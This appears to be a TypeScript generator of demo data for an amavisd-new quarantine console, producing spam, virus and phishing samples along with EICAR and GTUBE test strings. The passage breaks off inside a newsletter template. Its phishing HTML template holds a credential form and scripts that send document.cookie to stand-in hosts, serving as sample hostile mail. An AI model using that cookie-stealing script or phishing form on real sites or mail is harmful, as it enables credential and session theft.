// Demo data for a fresh database: a few hundred quarantined messages written the way amavisd-new 2.13
// writes them (maddr, msgs, msgrcpt, quarantine), so the console has something real to show.
//
// What "the way amavisd writes them" means here (see amavisd's save_info_preliminary/save_info_final,
// find_or_save_addr, generate_mail_id and the sql quarantine):
// - maddr.email is the lowercased envelope address, maddr.domain its domain labels reversed
//   ('com.example'), the null sender <> an empty email; ids are assigned here and inserted explicitly.
// - msgs.mail_id = base64url(md5(secret bytes)) cut to 12 chars, starting and ending alphanumeric;
//   secret_id = base64url(9 random bytes). size is the original message's size in its SMTP (CRLF)
//   form, i.e. without the headers amavisd prepends to the quarantined copy (as observed: size 391,
//   stored copy 987 bytes). from_addr and subject are the MIME-decoded headers, UTF-8, cut to 255
//   bytes on a character boundary. spam_level is the minimum of the recipients' bspam_level.
// - quarantine.mail_text is amavisd's header block (X-Envelope-*, X-Quarantine-ID, X-Amavis-Alert,
//   X-Spam-*, its Received line) followed by the original message, LF line endings, in chunks of
//   at most 16384 bytes numbered from 1.
// - Besides the quarantined messages there are a few clean messages that were only logged (no
//   quarantine rows) and one message still being processed (content NULL, no msgrcpt rows).
//
// Determinism: everything, the raw message bytes included, depends only on `seed` and `now`. The
// random parts MailComposer would add (Message-ID, Date, multipart boundaries) are all set here.
import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { max, sql } from 'drizzle-orm';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import type { AmavisTables } from '../db/amavis-tables.ts';
import type { Connection } from '../db/database.ts';

export interface DemoOptions {
  /** The dataset covers the 14 days before this instant. Default: the current time. */
  now?: Date;
  /** Number of quarantined messages. Default 300. */
  messages?: number;
  /** Seed of the deterministic PRNG. Default 1. */
  seed?: number;
}

export interface DemoSummary {
  /** msgs rows, quarantined or not (the one still being processed included). */
  messages: number;
  /** msgrcpt rows. */
  recipients: number;
  /** msgs rows that have quarantine rows. */
  quarantined: number;
  /** quarantine rows. */
  chunks: number;
}

const DEMO_HOST = 'mail.example.com';
const QUARANTINE_CHUNK_SIZE = 16384;
const DAYS = 14;
const BATCH_ROWS = 200;
const BATCH_BYTES = 2 * 1024 * 1024;
/** sa_tag_level -999: spam headers on every scanned message, as in the lab's amavisd setup. */
const TAG_LEVEL = -999;
const TAG2_LEVEL = 3;
const KILL_LEVEL = 6;

// ---------------------------------------------------------------------------------------------------
// Seeded randomness

class Random {
  private state: number;

  constructor(seed: number) {
    this.state = (Math.floor(seed) ^ 0x9e3779b9) >>> 0;
  }

  /** mulberry32: a uniform float in [0, 1). */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [min, max]. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    const item = items[Math.floor(this.next() * items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }

  weighted<T>(items: readonly (readonly [T, number])[]): T {
    const total = items.reduce((sum, [, w]) => sum + w, 0);
    let r = this.next() * total;
    for (const [item, w] of items) {
      r -= w;
      if (r < 0) return item;
    }
    const last = items[items.length - 1];
    if (!last) throw new Error('weighted pick from an empty list');
    return last[0];
  }

  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      const a = items[i] as T;
      items[i] = items[j] as T;
      items[j] = a;
    }
    return items;
  }

  bytes(length: number): Buffer {
    const out = Buffer.allocUnsafe(length);
    let i = 0;
    while (i + 4 <= length) {
      out.writeUInt32LE(Math.floor(this.next() * 4294967296), i);
      i += 4;
    }
    for (; i < length; i++) out[i] = Math.floor(this.next() * 256);
    return out;
  }

  hex(length: number): string {
    return this.bytes(Math.ceil(length / 2))
      .toString('hex')
      .slice(0, length);
  }

  /** Letters and digits, like Postfix's long queue ids. */
  alnum(length: number): string {
    const alphabet = 'BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789';
    let s = '';
    for (let i = 0; i < length; i++) s += alphabet[Math.floor(this.next() * alphabet.length)];
    return s;
  }
}

/**
 * `n` keys in random order, each at least `min` times and otherwise in proportion to its weight.
 * When n is smaller than the minimums, the first keys (in the order given) win.
 */
function allocate<K>(rng: Random, n: number, spec: readonly { key: K; weight: number; min: number }[]): K[] {
  const out: K[] = [];
  const minimum = spec.reduce((sum, s) => sum + s.min, 0);
  if (n <= minimum) {
    for (const s of spec) for (let i = 0; i < s.min && out.length < n; i++) out.push(s.key);
    return rng.shuffle(out);
  }
  const rest = n - minimum;
  const totalWeight = spec.reduce((sum, s) => sum + s.weight, 0);
  const shares = spec.map((s) => (totalWeight > 0 ? (rest * s.weight) / totalWeight : 0));
  const counts = spec.map((s, i) => s.min + Math.floor(shares[i] ?? 0));
  let missing = n - counts.reduce((a, b) => a + b, 0);
  const byFraction = spec
    .map((_, i) => i)
    .sort((a, b) => ((shares[b] ?? 0) % 1) - ((shares[a] ?? 0) % 1) || a - b);
  for (let k = 0; missing > 0; k++, missing--) {
    const i = byFraction[k % byFraction.length] ?? 0;
    counts[i] = (counts[i] ?? 0) + 1;
  }
  spec.forEach((s, i) => {
    for (let c = 0; c < (counts[i] ?? 0); c++) out.push(s.key);
  });
  return rng.shuffle(out);
}

// ---------------------------------------------------------------------------------------------------
// amavisd's encodings

/** amavisd's generate_mail_id: secret = random bytes, mail_id = b64url(md5(secret)) cut to 12 chars. */
function generateMailId(rng: Random, taken: Set<string>): { mailId: string; secretId: string } {
  for (;;) {
    const secret = rng.bytes(9);
    const mailId = createHash('md5').update(secret).digest('base64url').slice(0, 12);
    if (!/^[A-Za-z0-9].*[A-Za-z0-9]$/.test(mailId) || taken.has(mailId)) continue;
    taken.add(mailId);
    return { mailId, secretId: secret.toString('base64url') };
  }
}

/** maddr.email: amavisd lowercases the domain and (by default) the local part. */
function normaliseAddress(address: string): string {
  return address.toLowerCase();
}

/** maddr.domain: 'user@mail.example.com' -> 'com.example.mail'. Empty for the null sender. */
function reversedDomain(email: string): string {
  const at = email.lastIndexOf('@');
  if (at < 0) return '';
  return email
    .slice(at + 1)
    .replace(/^@+|\.+$/g, '')
    .split('.')
    .reverse()
    .join('.');
}

/** Cuts a string to at most `bytes` UTF-8 bytes without splitting a character. */
function cutUtf8(value: string, bytes: number): string {
  if (Buffer.byteLength(value, 'utf8') <= bytes) return value;
  let out = '';
  let used = 0;
  for (const ch of value) {
    const size = Buffer.byteLength(ch, 'utf8');
    if (used + size > bytes) break;
    out += ch;
    used += size;
  }
  return out;
}

function decodeBytes(bytes: Buffer, charset: string): string {
  try {
    return new TextDecoder(charset.toLowerCase()).decode(bytes);
  } catch {
    return bytes.toString('latin1');
  }
}

/** Undecoded header text: UTF-8 when it is valid UTF-8 (raw 8-bit headers), else Latin-1. */
function decodeRawHeaderText(latin1: string): string {
  const bytes = Buffer.from(latin1, 'latin1');
  try {
    return new TextDecoder('utf-8', { fatal: true }).decode(bytes);
  } catch {
    return bytes.toString('latin1');
  }
}

/**
 * Decodes a header value given as a latin1 byte string: RFC 2047 encoded-words (B and Q, any charset
 * TextDecoder knows), adjacent words joined, raw 8-bit text read as UTF-8. Unfolds first.
 */
function decodeHeaderValue(latin1: string): string {
  const value = latin1.replace(/\r?\n(?=[ \t])/g, '').trim();
  const wordRe = /=\?([^?*\s]+)(?:\*[^?\s]*)?\?([BbQq])\?([^?\s]*)\?=/g;
  let out = '';
  let last = 0;
  let prevWasWord = false;
  let pendingCharset = '';
  let pendingBytes: Buffer[] = [];
  for (let m = wordRe.exec(value); m; m = wordRe.exec(value)) {
    const between = value.slice(last, m.index);
    const onlySpace = /^[ \t]*$/.test(between);
    const charset = (m[1] ?? 'utf-8').toLowerCase();
    const text = m[3] ?? '';
    const bytes =
      (m[2] ?? 'B').toUpperCase() === 'B'
        ? Buffer.from(text, 'base64')
        : Buffer.from(
            text
              .replace(/_/g, ' ')
              .replace(/=([0-9A-Fa-f]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16))),
            'latin1',
          );
    if (prevWasWord && onlySpace && charset === pendingCharset) {
      // adjacent words of one charset: join the bytes, a character may straddle two words
      pendingBytes.push(bytes);
    } else {
      if (pendingBytes.length > 0) out += decodeBytes(Buffer.concat(pendingBytes), pendingCharset);
      if (!(prevWasWord && onlySpace)) out += decodeRawHeaderText(between);
      pendingCharset = charset;
      pendingBytes = [bytes];
    }
    prevWasWord = true;
    last = wordRe.lastIndex;
  }
  if (pendingBytes.length > 0) out += decodeBytes(Buffer.concat(pendingBytes), pendingCharset);
  return out + decodeRawHeaderText(value.slice(last));
}

/** RFC 2047 Q encoding of a Latin-1 string. */
function encodeLatin1Q(text: string): string {
  let out = '';
  for (const ch of Buffer.from(text, 'latin1')) {
    const c = String.fromCharCode(ch);
    if (ch === 0x20) out += '_';
    else if (/[A-Za-z0-9!*+\-/]/.test(c)) out += c;
    else out += `=${ch.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return `=?ISO-8859-1?Q?${out}?=`;
}

/** windows-1251 for ASCII and basic Cyrillic (А..я, Ё, ё), enough for the demo subjects. */
function encodeWindows1251(text: string): Buffer {
  const out: number[] = [];
  for (const ch of text) {
    const c = ch.codePointAt(0) ?? 0;
    if (c < 0x80) out.push(c);
    else if (c >= 0x410 && c <= 0x44f) out.push(c - 0x410 + 0xc0);
    else if (c === 0x401) out.push(0xa8);
    else if (c === 0x451) out.push(0xb8);
    else throw new Error(`windows-1251 demo encoder: unsupported character ${ch}`);
  }
  return Buffer.from(out);
}

/** ISO-2022-JP for ASCII, kana and a little punctuation, enough for the demo subjects. */
function encodeIso2022jp(text: string): Buffer {
  const out: number[] = [];
  let jis = false;
  const punctuation: Record<number, number> = {
    12289: 0x2122, // 、
    12290: 0x2123, // 。
    65281: 0x212a, // ！
    12540: 0x213c, // ー
    12304: 0x215a, // 【
    12305: 0x215b, // 】
  };
  for (const ch of text) {
    const c = ch.codePointAt(0) ?? 0;
    let code: number | undefined;
    if (c >= 0x30a1 && c <= 0x30f6) code = 0x2521 + (c - 0x30a1);
    else if (c >= 0x3041 && c <= 0x3093) code = 0x2421 + (c - 0x3041);
    else code = punctuation[c];
    if (code === undefined) {
      if (c >= 0x80) throw new Error(`ISO-2022-JP demo encoder: unsupported character ${ch}`);
      if (jis) out.push(0x1b, 0x28, 0x42);
      jis = false;
      out.push(c);
    } else {
      if (!jis) out.push(0x1b, 0x24, 0x42);
      jis = true;
      out.push(code >> 8, code & 0xff);
    }
  }
  if (jis) out.push(0x1b, 0x28, 0x42);
  return Buffer.from(out);
}

function encodedWordB(charset: string, bytes: Buffer): string {
  return `=?${charset}?B?${bytes.toString('base64')}?=`;
}

const DAY_NAMES = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTH_NAMES = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** 'Wed, 25 Nov 2026 06:36:04 +0000', in the given UTC offset (minutes). */
function rfc2822(epochSeconds: number, offsetMinutes = 0): string {
  const d = new Date((epochSeconds + offsetMinutes * 60) * 1000);
  const pad = (n: number) => String(n).padStart(2, '0');
  const sign = offsetMinutes < 0 ? '-' : '+';
  const abs = Math.abs(offsetMinutes);
  return (
    `${DAY_NAMES[d.getUTCDay()]}, ${d.getUTCDate()} ${MONTH_NAMES[d.getUTCMonth()]} ${d.getUTCFullYear()} ` +
    `${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${sign}${pad(Math.floor(abs / 60))}${pad(abs % 60)}`
  );
}

/** Folds `Name: a, b, c` at commas/spaces so that lines stay under 78 characters, amavisd style. */
function foldTokens(name: string, tokens: string[], separator: string): string {
  let line = `${name}:`;
  const lines: string[] = [];
  tokens.forEach((token, i) => {
    const piece = i < tokens.length - 1 ? `${token}${separator}` : token;
    if (line.length + 1 + piece.length > 78 && line.trim().length > name.length + 1) {
      lines.push(line);
      line = ` ${piece}`;
    } else {
      line += ` ${piece}`;
    }
  });
  lines.push(line);
  return lines.join('\n');
}

function formatScore(value: number): string {
  return String(Number(value.toFixed(3)));
}

// ---------------------------------------------------------------------------------------------------
// Raw message surgery (header blocks are handled as latin1 strings, byte for byte)

interface RawMail {
  head: string;
  body: Buffer;
}

function splitRaw(raw: Buffer): RawMail {
  const at = raw.indexOf('\n\n');
  if (at < 0) return { head: raw.toString('latin1'), body: Buffer.alloc(0) };
  return { head: raw.subarray(0, at).toString('latin1'), body: raw.subarray(at + 2) };
}

function joinRaw(mail: RawMail): Buffer {
  return Buffer.concat([Buffer.from(`${mail.head}\n\n`, 'latin1'), mail.body]);
}

function headerFields(head: string): string[] {
  const fields: string[] = [];
  for (const line of head.split('\n')) {
    if (/^[ \t]/.test(line) && fields.length > 0) fields[fields.length - 1] += `\n${line}`;
    else fields.push(line);
  }
  return fields;
}

function fieldName(field: string): string {
  return field.slice(0, field.indexOf(':')).toLowerCase();
}

function headerValue(head: string, name: string): string | undefined {
  const field = headerFields(head).find((f) => fieldName(f) === name.toLowerCase());
  return field === undefined ? undefined : field.slice(field.indexOf(':') + 1).trim();
}

/** Replaces the first `name` field (value given as a latin1 byte string). */
function replaceHeader(head: string, name: string, value: string): string {
  const fields = headerFields(head);
  const i = fields.findIndex((f) => fieldName(f) === name.toLowerCase());
  const field = `${name}: ${value}`;
  if (i < 0) fields.push(field);
  else fields[i] = field;
  return fields.join('\n');
}

function insertHeaderAfter(head: string, after: string, field: string): string {
  const fields = headerFields(head);
  const i = fields.findIndex((f) => fieldName(f) === after.toLowerCase());
  fields.splice(i < 0 ? fields.length : i + 1, 0, field);
  return fields.join('\n');
}

function utf8AsLatin1(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1');
}

// ---------------------------------------------------------------------------------------------------
// Attachments

function fromParts(...parts: string[]): string {
  return parts.join('');
}

/** The EICAR test string, assembled at run time so that this source file is not itself flagged. */
const EICAR = fromParts('X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS', '-TEST-FILE!$H+H*');
/** SpamAssassin's GTUBE line, assembled at run time for the same reason. */
const GTUBE = fromParts('XJS*C4JDBQADN1.NSBN3*2IDNEN*', 'GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X');

const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

function fakePdf(rng: Random, size: number, title: string): Buffer {
  const head = Buffer.from(
    `%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Title (${title}) >>\nendobj\n` +
      `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n` +
      `3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n` +
      `4 0 obj\n<< /Length ${Math.max(0, size - 400)} /Filter /FlateDecode >>\nstream\n`,
    'latin1',
  );
  const tail = Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n', 'latin1');
  return Buffer.concat([head, rng.bytes(Math.max(64, size - head.length - tail.length)), tail]);
}

function fakeExe(rng: Random, size: number): Buffer {
  const stub = Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00', 'latin1');
  const text = Buffer.from('This program cannot be run in DOS mode.\r\r\n$', 'latin1');
  return Buffer.concat([stub, Buffer.alloc(48), text, Buffer.from('PE\x00\x00', 'latin1'), rng.bytes(size)]);
}

/** A stored (uncompressed) zip; `encrypted` sets the encryption flag on every entry. */
function zipStore(files: { name: string; data: Buffer }[], encrypted = false): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const flags = encrypted ? 0x0001 : 0;
  const dosTime = 0x6000; // 12:00:00
  const dosDate = ((2024 - 1980) << 9) | (3 << 5) | 14;
  for (const file of files) {
    const name = Buffer.from(file.name, 'latin1');
    const crc = zlib.crc32(file.data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(0, 8);
    local.writeUInt16LE(dosTime, 10);
    local.writeUInt16LE(dosDate, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(file.data.length, 18);
    local.writeUInt32LE(file.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(0, 10);
    central.writeUInt16LE(dosTime, 12);
    central.writeUInt16LE(dosDate, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(file.data.length, 20);
    central.writeUInt32LE(file.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, file.data);
    centrals.push(central, name);
    offset += local.length + name.length + file.data.length;
  }
  const centralDir = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(centralDir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDir, end]);
}

// ---------------------------------------------------------------------------------------------------
// People

interface LocalUser {
  address: string;
  /** How the address arrives on the wire, when not all lowercase (maddr stores it lowercased). */
  wire?: string;
  name: string;
  weight: number;
}

// 20 local users over four domains; the last domain is the IDN bücher.example, stored punycoded.
const LOCAL_USERS: readonly LocalUser[] = [
  { address: 'alice@example.com', name: 'Alice Martin', weight: 4 },
  { address: 'bob@example.com', name: 'Bob Dupont', weight: 2 },
  { address: 'bob+lists@example.com', name: 'Bob Dupont', weight: 1 },
  { address: 'carol@example.com', name: 'Carol Nguyen', weight: 2 },
  { address: 'dave@example.com', name: 'Dave Wilson', weight: 1 },
  { address: 'info@example.com', name: 'Example Info', weight: 6 },
  { address: 'sales@example.com', name: 'Example Sales', weight: 5 },
  { address: 'postmaster@example.com', name: 'Postmaster', weight: 1 },
  { address: 'anna.schmidt@example.org', wire: 'Anna.Schmidt@Example.ORG', name: 'Anna Schmidt', weight: 3 },
  { address: 'jens.mueller@example.org', name: 'Jens Müller', weight: 2 },
  { address: 'olga.ivanova@example.org', name: 'Ольга Иванова', weight: 2 },
  { address: 'support@example.org', name: 'Support', weight: 4 },
  { address: 'webmaster@example.org', name: 'Webmaster', weight: 1 },
  { address: 'orders@shop.example.net', name: 'Shop Orders', weight: 4 },
  { address: 'billing@shop.example.net', wire: 'Billing@Shop.Example.NET', name: 'Billing', weight: 2 },
  { address: 'kenji.tanaka@shop.example.net', name: '田中 健二', weight: 2 },
  { address: 'marketing@shop.example.net', name: 'Marketing', weight: 2 },
  { address: 'kunde@xn--bcher-kva.example', name: 'Kundenservice', weight: 3 },
  { address: 'buchhaltung@xn--bcher-kva.example', name: 'Buchhaltung', weight: 1 },
  { address: 'lena.vogel@xn--bcher-kva.example', name: 'Lena Vogel', weight: 1 },
];

const FOREIGN_RECIPIENTS: readonly LocalUser[] = [
  { address: 'partner@supplier.test', name: 'Partner', weight: 1 },
  { address: 'j.doe@customer.test', name: 'John Doe', weight: 1 },
];

interface Sender {
  name?: string;
  address: string;
}

// ---------------------------------------------------------------------------------------------------
// Content categories, SpamAssassin tests

type Ccat = 'S' | 'Y' | 'V' | 'B' | 'H' | 'M' | 'O' | 'U' | 'T' | 'C' | 's' | '?';

const CCAT_MIX: readonly { key: Ccat; weight: number; min: number }[] = [
  { key: 'S', weight: 44, min: 3 },
  { key: 'Y', weight: 22, min: 2 },
  { key: 'V', weight: 5, min: 2 },
  { key: 'B', weight: 6, min: 2 },
  { key: 'H', weight: 5, min: 2 },
  { key: 'C', weight: 6, min: 2 },
  { key: 'M', weight: 3, min: 1 },
  { key: 'O', weight: 2.5, min: 2 },
  { key: 'U', weight: 2.5, min: 1 },
  { key: 'T', weight: 1.5, min: 1 },
  { key: 's', weight: 0, min: 2 },
  { key: '?', weight: 0, min: 2 },
];

type Rule = readonly [string, number];

const SPAM_RULES: readonly Rule[] = [
  ['RCVD_IN_SBL_CSS', 3.335],
  ['URIBL_DBL_SPAM', 2.5],
  ['URIBL_ABUSE_SURBL', 1.948],
  ['URIBL_BLACK', 1.7],
  ['RAZOR2_CHECK', 1.729],
  ['RAZOR2_CF_RANGE_51_100', 2.43],
  ['PYZOR_CHECK', 1.985],
  ['DCC_CHECK', 1.1],
  ['RCVD_IN_PBL', 3.335],
  ['RCVD_IN_XBL', 0.375],
  ['FROM_FMBLA_NEWDOM', 1.498],
  ['DKIM_ADSP_NXDOMAIN', 0.9],
  ['MONEY_FREEMAIL_REPTO', 2.999],
  ['FREEMAIL_FORGED_REPLYTO', 2.095],
  ['SUBJ_ALL_CAPS', 0.5],
  ['HTML_IMAGE_ONLY_16', 1.092],
  ['RDNS_NONE', 0.793],
  ['MIME_HTML_ONLY', 0.1],
  ['HTML_MESSAGE', 0.001],
  ['T_REMOTE_IMAGE', 0.01],
  ['URIBL_BLOCKED', 0.001],
  ['SPF_HELO_NONE', 0.001],
  ['SPF_FAIL', 0.919],
  ['ADVANCE_FEE_4_NEW_MONEY', 2.899],
  ['LOTS_OF_MONEY', 0.001],
  ['UNDISC_MONEY', 3.9],
  ['FROM_EXCESS_BASE64', 0.001],
  ['FREEMAIL_FROM', 0.001],
  ['DATE_IN_PAST_03_06', 1.076],
  ['HK_RANDOM_FROM', 0.999],
  ['RCVD_IN_MSPIKE_BL', 0.01],
  ['RCVD_IN_MSPIKE_L5', 0.01],
  ['URI_PHISH', 4],
  ['KAM_DMARC_STATUS', 0.01],
  ['PDS_FROM_2_EMAILS', 0.001],
  ['TVD_PH_BODY_ACCOUNTS_PRE', 0.001],
];

const SPAMMY_RULES: readonly Rule[] = [
  ['HTML_MESSAGE', 0.001],
  ['MIME_HTML_ONLY', 0.1],
  ['RDNS_NONE', 0.793],
  ['URIBL_BLOCKED', 0.001],
  ['SPF_HELO_NONE', 0.001],
  ['SPF_NONE', 0.001],
  ['DKIM_SIGNED', 0.1],
  ['DKIM_INVALID', 0.1],
  ['T_REMOTE_IMAGE', 0.01],
  ['HTML_FONT_LOW_CONTRAST', 0.001],
  ['MPART_ALT_DIFF', 0.79],
  ['HTML_IMAGE_RATIO_02', 0.805],
  ['TRACKER_ID', 0.1],
  ['RCVD_IN_MSPIKE_L3', 0.01],
  ['DCC_CHECK', 1.1],
  ['PYZOR_CHECK', 1.985],
  ['FROM_FMBLA_NEWDOM', 1.498],
];

const HAM_RULES: readonly Rule[] = [
  ['DKIM_SIGNED', 0.1],
  ['DKIM_VALID', -0.1],
  ['DKIM_VALID_AU', -0.1],
  ['DKIM_VALID_EF', -0.1],
  ['SPF_PASS', -0.001],
  ['SPF_HELO_NONE', 0.001],
  ['RCVD_IN_DNSWL_NONE', -0.0001],
  ['RCVD_IN_DNSWL_LOW', -0.7],
  ['HEADER_FROM_DIFFERENT_DOMAINS', 0.249],
  ['MAILING_LIST_MULTI', -1],
  ['HTML_MESSAGE', 0.001],
  ['T_SCC_BODY_TEXT_LINE', -0.01],
  ['URIBL_BLOCKED', 0.001],
  ['RDNS_NONE', 0.793],
];

interface SaResult {
  score: number;
  tests: Rule[];
}

/** Picks SpamAssassin hits whose sum lands in [min, max]; the score is that sum. */
function saTests(rng: Random, anchors: Rule[], pool: readonly Rule[], min: number, max: number): SaResult {
  const units = (v: number) => Math.round(v * 10000);
  for (let attempt = 0; attempt < 100; attempt++) {
    const target = units(min + (max - min) * rng.next() ** 2);
    const tests = [...anchors];
    let sum = anchors.reduce((s, [, v]) => s + units(v), 0);
    for (const rule of rng.shuffle([...pool])) {
      if (rng.chance(0.45) || tests.some(([n]) => n === rule[0])) continue;
      if (rule[1] <= 0 || sum + units(rule[1]) <= target) {
        tests.push(rule);
        sum += units(rule[1]);
      }
    }
    const score = Number((sum / 10000).toFixed(3));
    if (score >= min && score <= max) {
      return { score, tests: tests.sort((a, b) => a[0].localeCompare(b[0])) };
    }
  }
  throw new Error(`demo data: no SpamAssassin tests add up to [${min}, ${max}]`);
}

function scoreFor(rng: Random, ccat: Ccat, gtube: boolean): SaResult | null {
  if (gtube) {
    const tests: Rule[] = [
      ['DKIM_SIGNED', 0.1],
      ['DKIM_VALID', -0.1],
      ['DKIM_VALID_AU', -0.1],
      ['GTUBE', 1000],
      ['SPF_PASS', -0.001],
    ];
    return { score: 999.899, tests };
  }
  switch (ccat) {
    case 'S': {
      const anchors: Rule[] = rng.chance(0.6)
        ? [
            ['BAYES_99', 3.5],
            ['BAYES_999', 0.2],
          ]
        : [['BAYES_99', 3.5]];
      return saTests(rng, anchors, SPAM_RULES, 6.2, 40);
    }
    case 'Y':
    case 's':
      return saTests(
        rng,
        [
          rng.pick<Rule>([
            ['BAYES_80', 2],
            ['BAYES_60', 1.5],
          ]),
        ],
        SPAMMY_RULES,
        3.1,
        5.9,
      );
    case 'C':
      return saTests(
        rng,
        [
          rng.pick<Rule>([
            ['BAYES_00', -1.9],
            ['BAYES_05', -0.5],
          ]),
        ],
        HAM_RULES,
        -2.5,
        1.9,
      );
    case 'V':
    case 'B':
      if (rng.chance(0.5)) return null;
      return saTests(rng, [['BAYES_50', 0.8]], SPAM_RULES, 0.8, 8);
    case 'O':
      return null; // too big for SpamAssassin
    default:
      if (ccat === '?' && rng.chance(0.5)) return null;
      return saTests(
        rng,
        [
          rng.pick<Rule>([
            ['BAYES_20', -0.001],
            ['BAYES_40', -0.001],
          ]),
        ],
        HAM_RULES,
        -1,
        2.9,
      );
  }
}

// ---------------------------------------------------------------------------------------------------
// Message scenarios

interface Attachment {
  filename: string;
  content: Buffer | string;
  contentType?: string;
  cid?: string;
}

interface MailSpec {
  from: Sender;
  /** Envelope sender; '' is the null sender <>. Defaults to from.address. */
  envelopeFrom?: string;
  replyTo?: string;
  subject: string;
  text?: string;
  html?: string;
  attachments?: Attachment[];
  headers?: Record<string, string>;
  textEncoding?: 'quoted-printable' | 'base64';
  /** Date header offset from UTC in minutes, and how far the Date lies before reception. */
  dateOffset?: number;
  dateSkew?: number;
  /** X-Amavis-Alert text (banned, virus, bad header). */
  alert?: string;
  /** Blocked reason in the SMTP response, e.g. 'spam', 'INFECTED: Eicar-Signature'. */
  reason?: string;
  gtube?: boolean;
  /** The rewrite replaces the body with a single text part: no attachments. */
  singlePart?: boolean;
  /** Rewrites the composed message (raw headers, broken MIME, ...). */
  rewrite?: (mail: RawMail) => RawMail;
}

interface ScenarioContext {
  rng: Random;
  to: LocalUser;
  /** Adds a large attachment, so the message spans several quarantine chunks. */
  big: boolean;
  /** Target size of the large attachment in bytes. */
  bigSize: number;
  time: number;
}

type Scenario = (ctx: ScenarioContext) => MailSpec;

function firstName(user: LocalUser): string {
  const name = user.name.split(' ')[0] ?? user.name;
  return /^(Example|Shop|Support|Billing|Postmaster|Webmaster|Marketing|Kundenservice|Buchhaltung)$/.test(
    name,
  )
    ? 'there'
    : name;
}

function bigPdf(ctx: ScenarioContext, filename: string): Attachment[] {
  return ctx.big
    ? [{ filename, content: fakePdf(ctx.rng, ctx.bigSize, filename), contentType: 'application/pdf' }]
    : [];
}

const HOSTILE_HTML = (ctx: ScenarioContext, brand: string, host: string) => `<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="10;url=https://${host}/session/expired">
<title>${brand} security notice</title>
<script>window.location='https://${host}/c?d='+encodeURIComponent(document.cookie);</script>
<style>body{font-family:Arial,sans-serif;background:url(https://tracker.example/bg.png?u=${ctx.rng.hex(12)})}</style>
</head>
<body onload="document.forms[0].user.focus()">
<img src="https://tracker.example/open.gif?id=${ctx.rng.hex(16)}" width="1" height="1" alt="">
<table width="600" align="center"><tr><td>
<h2 style="color:#003087">${brand}</h2>
<p>Dear customer,</p>
<p>We detected unusual sign-in activity on your account. To avoid permanent suspension you must
verify your identity within <b>24 hours</b>.</p>
<form action="https://${host}/verify" method="post">
<input type="text" name="user" placeholder="Email address">
<input type="password" name="pass" placeholder="Password">
<button type="submit">Verify now</button>
</form>
<p><img src="cid:missing-logo" onerror="fetch('https://tracker.example/e?c='+document.cookie)" alt="logo"></p>
<p><a href="javascript:alert(document.domain)">Cancel this request</a></p>
<iframe src="https://${host}/frame" width="0" height="0" style="display:none"></iframe>
<p style="font-size:10px;color:#999">${brand} Inc. All rights reserved.</p>
</td></tr></table>
</body></html>
`;

const NEWSLETTER_HTML = (ctx: ScenarioContext, brand: string, headline: string, host: string) => `<html>
<body style="margin:0;background:#f4f4f4">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td><img src="https://${host}/img/header.jpg" width="600" alt="${brand}"></td></tr>
<tr><td style="padding:20px;font-family:Helvetica,Arial,sans-serif">
<h1 style="font-size:24px">${headline}</h1>
<p>Hi ${firstName(ctx.to)},</p>
<p>Our biggest offers of the season are here. Save up to <b>${ctx.rng.int(20, 90)}%</b> on selected items,
free shipping on orders over 50&nbsp;EUR.</p>
